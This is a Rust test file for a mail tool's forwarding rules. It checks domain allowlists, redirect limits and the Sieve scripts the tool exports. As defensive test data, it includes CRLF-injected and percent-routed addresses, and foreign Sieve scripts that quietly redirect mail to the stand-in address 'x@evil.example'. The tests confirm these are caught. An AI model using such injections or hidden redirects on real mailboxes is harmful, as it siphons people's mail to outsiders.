//! `sharemail rule` with rules that forward: where they may, and what the server is told.

use std::time::{Duration, Instant};
use std::{fs, thread};

use crate::provider::mailbox::local;
use crate::provider::sieve::{ScriptClient, deliver};
use crate::provider::{Cyrus, Dovecot, Mailbox, Provider, Ran, on_both, run};

/// A run with a profile that lets rules forward to `domains`.
fn rule(mailbox: &Mailbox, domains: &str, typed: &[&str]) -> Ran {
    let mut command = mailbox.provider.sharemail();
    if !domains.is_empty() {
        command.env("SHAREMAIL_FORWARD_DOMAINS", domains);
    }
    let mut words = vec!["rule", typed[0], &mailbox.address];
    words.extend(&typed[1..]);
    words.push("-vv");
    run::run(&mut command, words)
}

fn add(mailbox: &Mailbox, domains: &str, name: &str, then: &str) -> Ran {
    let when = "from = \"*@bank.example\"";
    rule(
        mailbox,
        domains,
        &["add", name, "--when", when, "--then", then],
    )
}

#[test]
fn rules_forward_where_the_profile_lets_them_and_nowhere_else() {
    for mailbox in on_both(&["Invoices"], 1) {
        let then = "forward = \"boss@example.org\"";
        for (domains, typed, why) in [
            ("", then, "does not name that domain"),
            ("example.org.test", then, "does not name that domain"),
            (
                "example.org",
                "forward = \"a@x.example.org\"",
                "does not name that domain",
            ),
            (
                "example.org",
                "forward = \"a%b.test@example.org\"",
                "stands before the @",
            ),
            (
                "example.org",
                "forward = \"a\\r\\nx@example.org\"",
                "control character",
            ),
            (
                "example.test",
                &format!("forward = \"{}\"", mailbox.address),
                "the mailbox itself",
            ),
        ] {
            let code = if why.contains(" the @") || why.contains("control") {
                65
            } else {
                77
            };
            let ran = add(&mailbox, domains, "a", typed).exits(code).says(why);
            assert!(!ran.stderr.contains("APPEND"), "{ran:?}");
        }
        let domains = "example.org, B\u{fc}cher.example";
        let then =
            "forward = [\"Boss@Example.ORG\", \"b@b\u{fc}cher.example\"], move = \"Invoices\"";
        add(&mailbox, domains, "a", then).exits(0);
        let listed = rule(&mailbox, domains, &["list"]).exits(0);
        listed.says(
            "forward = [\"Boss@example.org\", \"b@xn--bcher-kva.example\"], move = \"Invoices\"",
        );
        let script = rule(&mailbox, domains, &["export"]).exits(0);
        let script = script
            .says("\"copy\"")
            .says("redirect :copy \"Boss@example.org\";");
        assert!(
            script.stdout.find("redirect") < script.stdout.find("fileinto \""),
            "{script:?}"
        );
        rule(&mailbox, domains, &["check"]).exits(0);
        // What the settings say counts for nothing where the profile says something else.
        let barred = rule(&mailbox, "example.org", &["check", "-o", "json"])
            .exits(2)
            .json();
        assert_eq!(barred["findings"][0]["finding"], "forward-barred");
        rule(&mailbox, "", &["export"])
            .exits(77)
            .says("boss@example.org".replace('b', "B").as_str());
        let shown = rule(&mailbox, "", &["show", "a"]).exits(0);
        shown.says("does not name that domain").says_not("redirect");
    }
}

#[test]
fn doctor_tells_where_rules_may_forward() {
    let provider = Dovecot::running();
    let doctor = |domains: &str| {
        let mut command = provider.sharemail();
        if !domains.is_empty() {
            command.env("SHAREMAIL_FORWARD_DOMAINS", domains);
        }
        run::run(&mut command, ["doctor"])
    };
    doctor("example.org").says("rules may send mail on to example.org");
    doctor("").says_not("rules may send mail on");
    let bad = doctor("*.example.org").exits(78);
    bad.says("forward-domains");
}

#[test]
fn what_a_file_says_is_measured_by_the_profile_too() {
    for mailbox in on_both(&[], 1) {
        let name = format!("{}.forward", mailbox.address);
        let path = mailbox.provider.dir().join(name);
        let path = path.to_str().unwrap();
        let rules = format!(
            "[mailbox.\"{}\"]\n[[mailbox.\"{0}\".rule]]\nname = \"a\"\nwhen = {{ from = \"*@bank.example\" }}\n\
             then = {{ forward = \"boss@example.org\" }}\n",
            mailbox.address
        );
        fs::write(path, rules).unwrap();
        let ran = |domains: &str, words: &[&str]| {
            let mut command = mailbox.provider.sharemail();
            command.env("SHAREMAIL_FORWARD_DOMAINS", domains);
            run::run(&mut command, words)
        };
        let plan = format!("{path}.plan");
        for words in [
            &["plan", "-f", path][..],
            &["apply", "-f", path, "--yes"],
            &["check", "-f", path],
        ] {
            ran("example.com", words)
                .exits(77)
                .says("does not name that domain");
        }
        ran("example.org", &["plan", "-f", path, "--out", &plan]).exits(0);
        let saved = ["apply", &plan, "--yes"];
        ran("example.com", &saved)
            .exits(77)
            .says("does not name that domain");
        ran("example.org", &saved).exits(0);
        ran("example.org", &["plan", "-f", path, "--detailed-exitcode"]).exits(0);
        let exported = ran("example.org", &["export", &mailbox.address]).exits(0);
        exported.says("forward = \"boss@example.org\"");
    }
}

#[test]
fn the_server_forwards_as_the_rules_say_and_no_further_than_it_can() {
    for provider in [Dovecot::filtering(), Cyrus::filtering()] {
        let mailbox = Mailbox::on(provider, &[], 1);
        let scripts = || ScriptClient::of(provider, &mailbox.address);
        let domains = "example.org";
        let ran = add(&mailbox, domains, "a", "forward = \"boss@example.org\"").exits(0);
        ran.says("mail that comes: 1 rule: 3 of 3 changes made");
        assert!(
            scripts()
                .get("sharemail")
                .contains("    redirect :copy \"boss@example.org\";\n")
        );
        // Nothing is put for a profile that does not let it.
        let ran = rule(&mailbox, "", &["install"]).exits(77);
        assert!(!ran.stderr.contains("PUTSCRIPT"), "{ran:?}");
        // The server says after login to how many it forwards a message (Pigeonhole: 4).
        let five = "forward = [\"a@example.org\", \"b@example.org\", \"c@example.org\", \"d@example.org\"]";
        let ran = add(&mailbox, domains, "b", five);
        match ran.stderr.contains("MAXREDIRECTS") {
            true => {
                let ran = ran.exits(3).says("to 5 addresses, and the server takes 4");
                assert!(!ran.stderr.contains("C: PUTSCRIPT"), "{ran:?}");
                rule(&mailbox, domains, &["remove", "b"]).exits(0);
                add(
                    &mailbox,
                    domains,
                    "b",
                    &format!("{}, stop = true", five.replace(", \"d@example.org\"", "")),
                )
                .exits(0);
                // What somebody else's script forwards counts too.
                let mut client = scripts();
                client.put(
                    "hers",
                    "redirect :copy \"x@evil.example\";\nkeep;\n"
                        .replace(" :copy", "")
                        .as_str(),
                );
                client.activate("hers");
                rule(&mailbox, domains, &["install"])
                    .exits(77)
                    .says("1 address besides");
            }
            false => drop(ran.exits(0)),
        }
        let mut client = scripts();
        client.put(
            "hers",
            "if size :over 1G { redirect \"x@evil.example\"; }\nkeep;\n",
        );
        client.activate("hers");
        rule(&mailbox, domains, &["remove", "b"]);
        rule(&mailbox, domains, &["check"])
            .exits(2)
            .says("foreign-forward")
            .says("x@evil.example");
        rule(&mailbox, domains, &["remove", "a"]).exits(0);
        deliver(
            provider,
            &mailbox.address,
            &["From: x@y.example\nSubject: x\n\nx\n"],
        );
    }
}

/// What the server's filter has sent on: the words with which it called sendmail, and the message.
fn sent_on(provider: &Provider, to: &str, count: usize) -> Vec<(String, String)> {
    let begin = Instant::now();
    let folder = provider.dir().join("server/sent");
    loop {
        let files = fs::read_dir(&folder)
            .unwrap()
            .map(|file| file.unwrap().path());
        let whole = files.filter(|path| path.extension().is_some_and(|is| is == "mail"));
        let read = whole.map(|path| String::from_utf8(fs::read(path).unwrap()).unwrap());
        let mut all: Vec<(String, String)> = read
            .map(|text| {
                let (words, message) = text.split_once('\n').unwrap();
                (words.to_owned(), message.replace("\r\n", "\n"))
            })
            .filter(|(words, _)| words.contains(to))
            .collect();
        all.sort_unstable();
        if all.len() >= count || begin.elapsed() > Duration::from_secs(20) {
            return all;
        }
        thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn what_comes_goes_to_whom_rule_run_would_send_it() {
    for provider in [Dovecot::filtering(), Cyrus::filtering()] {
        let mailbox = Mailbox::on(provider, &["Invoices"], 1);
        let domain = format!("{}.test", local(&mailbox.address));
        let name = |who: &str| format!("{who}@{domain}");
        let rules = [
            (
                "a",
                "from = \"*@bank.example\"",
                format!(
                    "forward = [\"{}\", \"{}\"], flag = true",
                    name("a"),
                    name("b")
                ),
            ),
            (
                "b",
                "subject = \"invoice\"",
                format!("forward = \"{}\", move = \"Invoices\"", name("b")),
            ),
            (
                "c",
                "subject = \"other\"",
                format!("forward = \"{}\", stop = true", name("c")),
            ),
        ];
        for (called, when, then) in &rules {
            let words = ["add", called, "--when", when, "--then", then];
            rule(&mailbox, &domain, &words).exits(0);
        }
        let all = [
            ("bank", "invoice"),
            ("bank", "x"),
            ("shop", "invoice"),
            ("shop", "other"),
            ("shop", "x"),
        ];
        let message = |n: usize| {
            let (from, subject) = all[n];
            format!(
                "From: c@{from}.example\nSubject: {subject} {n}\nMessage-ID: <{n}@{domain}>\n\n.\nhello {n}\n"
            )
        };
        let messages: Vec<String> = (0..all.len()).map(message).collect();
        deliver(provider, &mailbox.address, &messages);
        let expected = [("a", 0), ("a", 1), ("b", 0), ("b", 1), ("b", 2), ("c", 3)];
        let sent = sent_on(provider, &domain, expected.len());
        let mut got: Vec<(String, usize)> = sent
            .iter()
            .map(|(words, text)| {
                let who = ["a", "b", "c"]
                    .into_iter()
                    .find(|who| words.contains(&name(who)));
                let n = (0..all.len()).find(|n| text.contains(&format!("Message-ID: <{n}@")));
                assert!(
                    text.contains(&format!("\n\n.\nhello {}", n.unwrap())),
                    "{text}"
                );
                (who.unwrap().to_owned(), n.unwrap())
            })
            .collect();
        got.sort_unstable();
        let wanted: Vec<(String, usize)> = expected.map(|(who, n)| (who.to_owned(), n)).to_vec();
        assert_eq!(got, wanted, "{:?}: {sent:?}", provider.kind());
        // The same by the other way, where the messages lie.
        let refused = rule(&mailbox, &domain, &["run", "--forward", "--dry-run"]);
        refused
            .exits(64)
            .says("mail that it has forwarded would go again");
        let mut by_run: Vec<(String, usize)> = Vec::new();
        for folder in ["INBOX", "Invoices"] {
            let mut command = provider.sharemail();
            command.env("SHAREMAIL_FORWARD_DOMAINS", &domain);
            command.env("SHAREMAIL_SMTP_HOST", "localhost");
            command.env("SHAREMAIL_SMTP_PORT", "1");
            let words = [
                "rule",
                "run",
                &mailbox.address,
                "--forward",
                "--dry-run",
                "--since",
                "3650d",
                "--folder",
                folder,
                "-o",
                "json",
            ];
            let told = run::run(&mut command, words).exits(0).json();
            for taken in told["messages"].as_array().unwrap() {
                let id = taken["message_id"].as_str().unwrap();
                let n: usize = id[1..2].parse().unwrap();
                for one in taken["forwards"].as_array().into_iter().flatten() {
                    by_run.push((one["to"].as_str().unwrap()[..1].to_owned(), n));
                }
            }
        }
        by_run.sort_unstable();
        assert_eq!(by_run, wanted, "{:?}", provider.kind());
    }
}
